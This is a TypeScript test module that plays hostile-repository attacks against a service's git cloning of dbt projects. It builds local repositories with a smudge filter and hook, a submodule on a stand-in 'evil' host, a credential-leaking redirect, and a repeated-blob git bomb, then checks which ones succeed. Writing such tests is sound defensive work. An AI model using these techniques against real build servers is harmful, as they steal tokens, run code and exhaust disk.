import { execFile } from 'node:child_process'
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { promisify } from 'node:util'
import { commitFolder, type TestRepository, writeCommitOf } from '@facet/testkit/git'
import { createRemotes } from '../../../../apps/server/src/adapters/git/index.ts'
import { cloneProject } from '../../../../apps/server/src/domains/dbt/engine/run/index.ts'
import type { Ground } from './ground.ts'
import { outbound, type Stage } from './phases.ts'
import type { Chosen, Found } from './probing.ts'

const execute = promisify(execFile)

type Cloning = {
  ground: Ground
  /** Where it was cloned to. */
  folder: string
  outcome: string
  home: string
  tookMs: number
}

type CloneAttack = {
  name: string
  /** Writes the hostile repository; gives the URL where it is not the repository's own. */
  given: (ground: Ground, repository: TestRepository) => Promise<string | undefined>
  isReached: (cloning: Cloning) => boolean
  /** How long it may take, for those that would take for ever. */
  timeoutMs?: number
}

const project = 'name: hostile\nversion: 1.0.0\nconfig-version: 2\n'

const filesBelow = (folder: string): string[] =>
  existsSync(folder)
    ? readdirSync(folder, { recursive: true, withFileTypes: true }).flatMap((entry) =>
        entry.isFile() ? [join(entry.parentPath, entry.name)] : [],
      )
    : []

const bytesBelow = (folder: string): number => filesBelow(folder).reduce((bytes, path) => bytes + statSync(path).size, 0)

/** A tree that says one blob many times: a megabyte is sent, and more than a gigabyte is written. */
const writeRepeated = async (repository: TestRepository, folder: string): Promise<string> => {
  const blob = join(folder, 'blob')
  writeFileSync(blob, Buffer.alloc(30 * 1_048_576, 'x'))
  const id = await repository.git(['hash-object', '-w', blob])
  const own = join(folder, 'dbt_project.yml')
  writeFileSync(own, project)
  const ownId = await repository.git(['hash-object', '-w', own])
  await repository.git(['read-tree', '--empty'])
  const entries = [`100644,${ownId},dbt_project.yml`, ...Array.from({ length: 36 }, (_, at) => `100644,${id},seeds/${at}.csv`)]
  await repository.git(['update-index', '--add', ...entries.flatMap((entry) => ['--cacheinfo', entry])])
  return writeCommitOf(repository, await repository.git(['write-tree']))
}

const commit = async (ground: Ground, repository: TestRepository, files: Record<string, string>): Promise<string> => {
  const folder = mkdtempSync(join(ground.folder, 'source-'))
  for (const [path, text] of Object.entries({ 'dbt_project.yml': project, ...files })) writeFileSync(join(folder, path), text)
  const head = await commitFolder(repository, 'main', folder)
  rmSync(folder, { recursive: true })
  return head
}

const cloneAttackList: CloneAttack[] = [
  {
    name: 'hooks and filters of the configuration of git',
    given: async (ground, repository) => void (await commit(ground, repository, { '.gitattributes': '* filter=evil\n' })),
    isReached: ({ home }) => existsSync(join(home, 'ran')),
  },
  {
    name: 'a submodule that leads to another host',
    given: async (ground, repository) => {
      const url = ground.evil.urlOf('submodule.git')
      const head = await commit(ground, repository, { '.gitmodules': `[submodule "sub"]\n\tpath = sub\n\turl = ${url}\n` })
      await repository.git(['read-tree', head])
      await repository.git(['update-index', '--add', '--cacheinfo', `160000,${head},sub`])
      await repository.git(['update-ref', 'refs/heads/main', await writeCommitOf(repository, await repository.git(['write-tree']))])
    },
    isReached: ({ ground }) => ground.evil.heard.some((line) => line.includes('/submodule.git')),
  },
  {
    name: 'a redirect that takes the credential along',
    given: async (ground, repository) => {
      await commit(ground, await ground.evil.addRepository('taken.git'), {})
      await commit(ground, repository, {})
      return ground.git.urlOf('redirect/taken.git')
    },
    isReached: ({ ground }) => ground.evil.heard.some((line) => line.includes(Buffer.from(`git:${ground.token}`).toString('base64'))),
  },
  {
    name: 'the credential left in what was cloned',
    given: async (ground, repository) => void (await commit(ground, repository, {})),
    isReached: ({ folder, ground }) => filesBelow(folder).some((path) => readFileSync(path).includes(ground.token)),
  },
  {
    name: 'more than a gigabyte checked out of a megabyte that was sent',
    given: async (ground, repository) => {
      const folder = mkdtempSync(join(ground.folder, 'source-'))
      await repository.git(['update-ref', 'refs/heads/main', await writeRepeated(repository, folder)])
    },
    isReached: ({ folder }) => bytesBelow(folder) > 1_073_741_824,
  },
  {
    name: 'a host that never answers',
    given: async (ground) => ground.git.urlOf('silent/x.git'),
    isReached: ({ tookMs }) => tookMs > 1000 + 2500,
    timeoutMs: 1000,
  },
]

/** The home of whoever runs the service: hooks and filters that would be run. */
const writeHome = (folder: string): string => {
  const home = mkdtempSync(join(folder, 'home-'))
  const hooks = join(home, 'hooks')
  mkdirSync(hooks)
  writeFileSync(join(hooks, 'post-checkout'), `#!/bin/sh\ntouch ${home}/ran\n`, { mode: 0o755 })
  const filter = `[filter "evil"]\n\tsmudge = "touch ${home}/ran; cat"\n\trequired = false\n`
  writeFileSync(join(home, '.gitconfig'), `[core]\n\thooksPath = ${hooks}\n${filter}`)
  return home
}

const asProduct = async (ground: Ground, url: string, folder: string, timeoutMs: number): Promise<unknown> =>
  cloneProject(
    {
      remotes: createRemotes({ outbound, caFile: ground.caFile, folder: ground.folder }),
      ...{ remote: { url, auth: { kind: 'token', token: ground.token, user: 'git' }, tenantId: 1 }, ref: null, projectPath: '.', folder },
    },
    { signal: new AbortController().signal, timeoutMs, onProgress: () => undefined },
  )

/** As one would clone by hand: the token in the URL, submodules with it. The header is how a build server hands it to git. */
const byHand = ({ caFile, token }: Ground, url: string, folder: string, home: string, timeout: number): Promise<unknown> => {
  const header = `http.extraHeader=Authorization: Basic ${Buffer.from(`git:${token}`).toString('base64')}`
  const env = { PATH: process.env['PATH'], HOME: home, GIT_SSL_CAINFO: caFile, GIT_TERMINAL_PROMPT: '0' }
  const from = url.replace('https://', `https://git:${token}@`)
  return execute('git', ['-c', header, 'clone', '--recurse-submodules', from, join(folder, 'files')], { env, timeout })
}

/** What a hostile repository, or its host, gets out of being cloned. */
export const cloneAttacks = async ({ ground }: Stage, isWalled: boolean, isChosen: Chosen): Promise<Found[]> => {
  const found: Found[] = []
  for (const [at, attack] of cloneAttackList.filter(({ name }) => isChosen(name)).entries()) {
    const repository = await ground.git.addRepository(`clone-${at}.git`)
    const url = (await attack.given(ground, repository)) ?? ground.git.urlOf(`clone-${at}.git`)
    const [folder, home] = [mkdtempSync(join(ground.folder, 'clone-')), writeHome(ground.folder)]
    const { timeoutMs = 60_000 } = attack
    process.env['HOME'] = home
    const startedMs = Date.now()
    const cloning = isWalled ? asProduct(ground, url, folder, timeoutMs) : byHand(ground, url, folder, home, timeoutMs + 4000)
    const outcome = await cloning.then(JSON.stringify, String)
    const tookMs = Date.now() - startedMs
    const isReached = attack.isReached({ ground, folder, home, outcome, tookMs })
    const past = isWalled && attack.timeoutMs !== undefined ? { pastLimitMs: tookMs - timeoutMs } : {}
    found.push({ phase: 'clone', name: attack.name, isReached, why: outcome.slice(0, 200), ...past })
    rmSync(folder, { recursive: true, force: true })
  }
  return found
}
